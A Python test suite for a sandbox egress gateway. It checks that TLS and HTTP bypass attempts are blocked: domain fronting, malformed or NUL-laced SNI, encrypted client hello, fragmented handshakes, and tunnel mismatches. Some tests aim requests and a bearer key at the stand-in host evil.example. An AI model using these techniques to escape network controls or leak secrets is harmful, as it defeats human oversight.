"""Saying one name in one place and another elsewhere; handshakes that are hard to read."""

from egress.conftest import python
from egress.table import attack


def connections(w, after, *addresses):
    """Connections that arrived at these addresses."""
    w.net.settle()
    return [each for each in w.net.records(after) if each["kind"] == "connection" and each["local"] in addresses and each["port"] != 80]


@attack("server-name-not-on-the-list", "the server name of another host, at the address of an allowed one that serves both", "the server name is the host, and is not on the list")
def _(w):
    mark = w.mark()
    answer = python(w.fenced, "say(attempt(get, 'evil.example', '/' + mark, at=web))", mark=mark, web=w.net.web)
    assert answer.get("status") == 403 and "evil.example" in answer["body"], answer
    w.nothing_arrived(mark)
    return f"403 {answer['body']}"


@attack("no-server-name", "TLS without a server name at the address of an allowed host", "without a name there is no rule to go by")
def _(w):
    mark = w.mark()
    answer = python(w.fenced, "say(attempt(https, web, request('/' + mark, 'api.test.example'), sni=''))", mark=mark, web=w.net.web)
    assert answer.get("status") != 200, answer
    w.nothing_arrived(mark)
    return w.was_blocked(w.fenced, w.net.web, "server name")


@attack("fronting", "an allowed server name, and the Host header of another site at the same address", "each request must be for the host of its connection")
def _(w):
    mark = w.mark()
    answer = python(w.fenced, "say(attempt(https, 'api.test.example', request('/' + mark, 'evil.example')))", mark=mark)
    assert answer.get("status") == 421, answer
    w.nothing_arrived(mark)
    return f"421 {answer['body']}"


@attack("fronting-between-allowed-hosts", "the server name of one allowed host and the Host header of another, which has another secret", "each request must be for the host of its connection, even when both are allowed")
def _(w):
    mark = w.mark()
    code = "say(attempt(https, 'other.test.example', request('/' + mark, 'api.test.example', headers={'Authorization': 'Bearer ' + KEY})))"
    answers = [python(box, code, mark=mark) for box in (w.fenced, w.sealed)]
    assert all(answer.get("status") == 421 for answer in answers), answers
    w.nothing_arrived(mark)
    return f"421 {answers[0]['body']}"


@attack("fronting-over-http2", "the same with `:authority`", "each request must be for the host of its connection")
def _(w):
    mark = w.mark()
    answer = python(w.fenced, "say(attempt(get2, 'api.test.example', pseudo('evil.example', '/' + mark)))", mark=mark)
    assert answer.get("status") == 421 or answer.get("reset") is not None, answer
    w.nothing_arrived(mark)
    return f"{answer['status']} {answer['body']}"


@attack("nul-and-odd-server-names", "server names with NUL, blanks, dots, unicode, an address, two of them, or twice the extension", "a hello is read strictly: one name that is a host name, or none")
def _(w):
    code = """
names = [b'api.test.example\\0.evil.example', b'evil.example\\0api.test.example', b'api.test.example ', b'.api.test.example', b'api..test.example',
         'ap\u0131.test.example'.encode(), web.encode(), b'', b'a' * 300, b'api.test.example/', b'evil.example:api.test.example', b'*.test.example']
found = [hello(web, client_hello(server_names(name))) for name in names]
found.append(hello(web, client_hello(server_names(b'api.test.example', b'evil.example'))))
found.append(hello(web, client_hello(server_names(b'api.test.example'), server_names(b'evil.example'))))
say([found, hello(web, client_hello(server_names(b'api.test.example')))])
"""
    before = w.net.now()
    odd, good = python(w.fenced, code, web=w.net.web)
    assert good.get("hello"), good
    assert len(connections(w, before, w.net.web)) <= 1, (odd, connections(w, before, w.net.web))
    assert not [each for each in w.net.records(before) if each.get("sni") and each["sni"] != "api.test.example"]
    return f"{sum('hello' not in each for each in odd)} of {len(odd)} were not even answered, none reached a server"


@attack("encrypted-client-hello", "an encrypted hello inside an allowed outer one, and inside a refused one", "the gateway answers for the outer name itself and says its own hello to the host: what was encrypted goes nowhere")
def _(w):
    code = """
ech = extension(0xfe0d, b'\\0\\0\\1\\0\\1\\7\\0\\x20' + b'E' * 32 + b'\\0\\x40' + b'F' * 64)
say([hello(web, client_hello(server_names(name), ech)) for name in (b'api.test.example', b'evil.example')])
"""
    before = w.net.now()
    outer, refused = python(w.fenced, code, web=w.net.web)
    names = {each["sni"] for each in w.net.records(before) if each.get("sni")}
    assert names <= {"api.test.example"}, names
    assert len(connections(w, before, w.net.web)) <= 1
    return f"outer name allowed: {outer}; refused: {refused}"


@attack("fragmented-hello", "a hello in packets of one byte, and in many records, for a host that is not allowed", "it is put together before anything is decided; an allowed one gets through the same way")
def _(w):
    code = """
found = []
for name in (b'evil.example', b'api.test.example'):
    found.append([hello(web, client_hello(server_names(name), records=n), pieces=pieces, pause=0.002) for n, pieces in ((1, 100), (40, 1), (40, 60), (1000, 1))])
say(found)
"""
    before = w.net.now()
    refused, allowed = python(w.fenced, code, web=w.net.web)
    assert sum("hello" in each for each in allowed) >= 3, allowed
    assert len(connections(w, before, w.net.web)) <= len(allowed)
    assert not connections(w, before, w.net.evil)
    w.was_blocked(w.fenced, "evil.example")
    return f"allowed: {sum('hello' in each for each in allowed)} of {len(allowed)}; no server saw the others"


@attack("slow-and-endless-hello", "a hello that never ends, and one that is longer than any", "16 KB and ten seconds are the most")
def _(w):
    code = """
endless = b'\\x16\\3\\1\\x40\\0\\1\\0\\x3f\\xfc\\3\\3' + b'x' * 40000
say([hello(web, endless), hello(web, client_hello(server_names(b'api.test.example'), extension(21, b'\\0' * 15000))), hello(web, b'\\x16\\3\\1\\0\\0' * 4000)])
"""
    before = w.net.now()
    answers = python(w.fenced, code, web=w.net.web)
    assert not connections(w, before, w.net.web) or len(connections(w, before, w.net.web)) <= 1, answers
    return str(answers)[:120]


@attack("not-tls-on-443", "other protocols on the port of HTTPS", "only HTTP and TLS pass the web ports")
def _(w):
    mark = w.mark()
    code = "say([reaches(web, 443, text + mark.encode()) for text in (b'SSH-2.0-x ', b'\\0\\1\\2', b'\\x16\\3\\1\\0\\5hello', b'\\x15\\3\\1\\0\\2\\1\\0', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')])"
    answers = python(w.fenced, code, mark=mark, web=w.net.web)
    w.nothing_arrived(mark)
    return str(answers[0])[:120]


@attack("protocols-that-are-not-http", "TLS to an allowed host in which another protocol was agreed on", "under a list, TLS that is not HTTP passes only where a rule names a port of its own")
def _(w):
    mark = w.mark()
    code = """
def other(*alpn):
    with tls('api.test.example', alpn=alpn) as stream:
        stream.sendall(mark.encode() + b'\\r\\n\\r\\n')
        return {'alpn': stream.selected_alpn_protocol(), 'got': stream.recv(1000)}
say([attempt(other, *each) for each in (('dot',), ('ssh',), ('imap',), ('http/0.9',), ('h3',))])
"""
    answers = python(w.fenced, code, mark=mark)
    w.nothing_arrived(mark)
    assert all("error" in answer for answer in answers), answers
    return w.was_blocked(w.fenced, "api.test.example", "only HTTP")


def _bad_certificate(name, why):
    @attack(f"certificate-{name}", f"an upstream whose certificate is {why}", "the gateway checks it as a browser would; the sandbox gets a readable refusal")
    def _(w):
        mark = w.mark()
        answer = python(w.fenced, "say(attempt(get, host, '/' + mark))", mark=mark, host=f"{name}.test.example")
        assert answer.get("status") == 502, answer
        w.nothing_arrived(mark)
        return f"502 {answer['body']}"


_bad_certificate("wrong", "for another name")
_bad_certificate("expired", "past its end")
_bad_certificate("selfsigned", "signed by itself")


@attack("tls-in-a-tunnel-for-another-host", "CONNECT to one host, TLS inside it for another", "the two have to agree")
def _(w):
    mark = w.mark()
    code = """
def inside(name):
    stream, answer = connect('other.test.example:443')
    with tls(name, stream=stream) as secure:
        secure.sendall(request('/' + mark, name, headers={'Authorization': KEY}))
        return read_response(secure)
say([attempt(inside, name) for name in ('api.test.example', 'evil.example')])
"""
    answers = python(w.fenced, code, mark=mark)
    assert all(answer.get("status") in (421, 403) or "error" in answer for answer in answers), answers
    w.nothing_arrived(mark)
    return f"{answers[0].get('status')} {answers[0].get('body')}"


@attack("renegotiation-and-old-versions", "TLS 1.1 and older, and a second hello inside a connection", "1.2 and 1.3 only, one handshake")
def _(w):
    code = """
old = client_hello(server_names(b'api.test.example')).replace(b'\\3\\3', b'\\3\\1', 1)
def again():
    with tls('api.test.example', versions=ssl.TLSVersion.TLSv1_2) as stream:
        stream.sendall(b'')
        return stream.version()
say([hello(web, old), attempt(again)])
"""
    old, version = python(w.fenced, code, web=w.net.web)
    assert not old.get("hello") and version == "TLSv1.2", (old, version)
    return str(old)
